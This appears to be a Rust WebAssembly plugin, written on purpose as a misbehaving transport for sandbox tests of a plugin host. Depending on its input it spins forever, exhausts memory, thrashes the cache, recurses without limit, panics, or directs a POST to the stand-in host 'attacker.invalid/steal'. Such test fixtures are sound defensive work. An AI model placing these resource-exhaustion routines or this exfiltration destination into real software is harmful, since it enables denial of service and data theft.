//! A transport that misbehaves on purpose, for the host's sandbox tests. The payload (or, on the
//! server side, the arriving body or the answer payload) picks the misbehavior; anything else is
//! echoed like a well-behaved transport.
#![no_std]

extern crate alloc;

use alloc::string::{String, ToString};
use alloc::vec;
use alloc::vec::Vec;

use licet_plugin_sdk as _;

wit_bindgen::generate!({ world: "transport", path: "../../wit" });

use exports::licet::plugin::accept::{Answer, Arrival};
use exports::licet::plugin::wire::{Destination, Guest, WireReply, WireRequest};
use licet::plugin::types::PluginError;

struct HostileTransport;

fn spin() -> ! {
    let mut counter: u64 = 0;
    loop {
        counter = core::hint::black_box(counter.wrapping_add(1));
    }
}

fn hoard() -> Vec<Vec<u8>> {
    let mut hoard = Vec::new();
    loop {
        hoard.push(core::hint::black_box(vec![1u8; 1 << 20]));
    }
}

/// Spends wall-clock time on little fuel: a chain of dependent loads at pseudo-random places in
/// 12 MiB of memory, so that each step of a few instructions waits for a cache and TLB miss.
fn churn() -> ! {
    const PAGES: usize = 192;
    const WORDS: usize = PAGES * 65536 / 4;
    let first_page = core::arch::wasm32::memory_grow(0, PAGES);
    if first_page == usize::MAX {
        core::arch::wasm32::unreachable();
    }
    let base = first_page * 65536;
    let word = |index: usize| (base + 4 * (index % WORDS)) as *mut u32;
    // One store per 4 KiB page gives every page its own memory (untouched pages all read the
    // same zero page, which stays in the cache).
    for page in 0..WORDS / 1024 {
        // SAFETY: in the pages just grown, which nothing else uses.
        unsafe { core::ptr::write_volatile(word(page * 1024), 1) };
    }
    let mut index: usize = 0;
    loop {
        // SAFETY: as above.
        let value = unsafe { core::ptr::read_volatile(word(index)) };
        index = index
            .wrapping_mul(1_103_515_245)
            .wrapping_add(12_345 + value as usize);
    }
}

#[allow(unconditional_recursion)]
fn descend(depth: u64) -> u64 {
    let frame = core::hint::black_box([depth; 16]);
    descend(frame[3].wrapping_add(1)).wrapping_add(frame[7])
}

/// The misbehavior `bytes` names, or `bytes` echoed.
fn misbehave(bytes: Vec<u8>) -> Vec<u8> {
    match bytes.as_slice() {
        b"loop" => spin(),
        b"churn" => churn(),
        b"memory" => {
            let hoard = hoard();
            vec![u8::try_from(hoard.len() % 256).unwrap_or(0)]
        }
        b"recursion" => descend(0).to_le_bytes().to_vec(),
        b"panic" => panic!("hostile plugin panics"),
        b"huge" => vec![7u8; 8 << 20],
        _ => bytes,
    }
}

impl Guest for HostileTransport {
    fn encode(
        _config: Vec<(String, String)>,
        payload: Vec<u8>,
    ) -> Result<WireRequest, PluginError> {
        let body = match payload.as_slice() {
            b"evil-url" => {
                return Ok(WireRequest {
                    destination: Destination::HttpPost("http://attacker.invalid/steal".to_string()),
                    content_type: "application/json".to_string(),
                    body: payload,
                })
            }
            b"text" => {
                return Ok(WireRequest {
                    destination: Destination::Text("activation request".to_string()),
                    content_type: "text/plain".to_string(),
                    body: payload,
                })
            }
            _ => misbehave(payload),
        };
        Ok(WireRequest {
            destination: Destination::File("echo".to_string()),
            content_type: "application/octet-stream".to_string(),
            body,
        })
    }

    fn decode(_config: Vec<(String, String)>, reply: WireReply) -> Result<Vec<u8>, PluginError> {
        Ok(reply.body)
    }
}

impl exports::licet::plugin::accept::Guest for HostileTransport {
    fn decode_request(
        _config: Vec<(String, String)>,
        arrival: Arrival,
    ) -> Result<Vec<u8>, PluginError> {
        if arrival.body == b"refuse" {
            return Err(PluginError {
                code: "bad-request".to_string(),
                message: "this request is refused".to_string(),
            });
        }
        Ok(misbehave(arrival.body))
    }

    fn encode_answer(
        _config: Vec<(String, String)>,
        payload: Vec<u8>,
    ) -> Result<Answer, PluginError> {
        Ok(Answer {
            content_type: "application/octet-stream".to_string(),
            body: misbehave(payload),
        })
    }
}

export!(HostileTransport);
